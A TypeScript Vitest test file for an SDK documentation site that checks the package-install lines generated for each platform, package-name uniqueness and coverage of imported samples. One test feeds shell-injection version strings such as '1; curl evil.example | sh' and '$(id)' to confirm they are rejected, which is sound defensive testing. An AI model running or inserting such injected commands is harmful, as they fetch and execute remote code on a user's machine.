import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import downloads from '../../../config/content/downloads.json' with { type: 'json' };
import { demoProducts } from '../../../config/products.ts';
import { installsOf, missingPlatforms } from '../../../pages/sdk/app/installs.ts';
import { subjects } from '../../../pages/sdk/app/subjects.ts';

const lines = (platform: string, version = '10.6.2') =>
  installsOf({ download: { platform, version }, names: { pack: 'call-kit', module: 'CallKit' } }).map(
    ({ line }) => line,
  );

describe('the line that installs a package', () => {
  it('names it and its version as the package manager of the platform wants it', () => {
    expect(
      Object.fromEntries(
        ['Android', 'HarmonyOS', 'Web', '小程序', 'Flutter', 'Windows'].map((one) => [one, lines(one)]),
      ),
    ).toEqual({
      Android: ['implementation("com.yunqiao:call-kit:10.6.2")'],
      HarmonyOS: ['ohpm install @yunqiao/call-kit@10.6.2'],
      Web: ['npm install @yunqiao/call-kit@10.6.2'],
      小程序: ['npm install @yunqiao/call-kit-mini@10.6.2'],
      Flutter: ['flutter pub add yunqiao_call_kit:10.6.2'],
      Windows: ['Install-Package Yunqiao.CallKit -Version 10.6.2'],
    });
    expect(lines('iOS')).toEqual([
      '.package(url: "https://opensource.yunqiao.example/call-kit-ios", exact: "10.6.2")',
      "pod 'YunqiaoCallKit', '10.6.2', :source => 'https://opensource.yunqiao.example/specs'",
    ]);
  });

  it('is absent for a platform without a manager or by a name of every object, and for a version that a shell would run', () => {
    for (const platform of ['智能电视', 'constructor', '__proto__', 'toString']) expect(lines(platform)).toEqual([]);
    for (const version of ['1; curl evil.example | sh', '1\ncurl evil.example', '$(id)', '1" && id', '-g', ''])
      expect(lines('Web', version)).toEqual([]);
    expect(lines('Web', '2.0.0-beta.1+7')).toEqual(['npm install @yunqiao/call-kit@2.0.0-beta.1+7']);
  });
});

describe('the packages of this site', () => {
  const installs = downloads.flatMap((download) => {
    const product = demoProducts.find((one) => one === download.product)!;
    return installsOf({ download, names: subjects[product] }).map((install) => ({ ...install, id: download.id }));
  });

  it('each have a line, with a name that no other product has', () => {
    expect(downloads.map(({ id }) => id).filter((id) => !installs.some((install) => install.id === id))).toEqual([]);
    const owners = new Map<string, Set<string>>();
    for (const { manager, package: name, id } of installs)
      owners.set(`${manager} ${name}`, (owners.get(`${manager} ${name}`) ?? new Set()).add(id.split('-')[0]!));
    expect([...owners].filter(([, products]) => products.size > 1)).toEqual([]);
  });

  it('include every package of theirs that a sample imports', () => {
    const pages = join(import.meta.dirname, '../../../pages');
    const packs = Object.values(subjects).map(({ pack }) => pack);
    const imported = readdirSync(pages, { recursive: true, encoding: 'utf8' })
      .filter((file) => /\.(?:ts|yaml)$/.test(file))
      .flatMap((file) => Array.from(readFileSync(join(pages, file), 'utf8').matchAll(/from '@yunqiao\/([\w-]+)'/g)))
      .map(([, name]) => name!)
      .filter((name) => packs.some((pack) => name === pack || name.startsWith(`${pack}-`)));
    expect(imported).toContain('call-kit-mini');
    const installed = new Set(installs.map((install) => install.package));
    expect([...new Set(imported)].filter((name) => !installed.has(`@yunqiao/${name}`))).toEqual([]);
  });
});

it('platforms without a package of a product are those that others have one for', () => {
  const platforms = ['Android', 'iOS', 'Web', 'Windows', 'macOS', '小程序'].map((platform) => ({ platform }));
  expect(missingPlatforms(platforms)).toEqual(['HarmonyOS', 'Flutter', 'uni-app', 'Electron']);
});
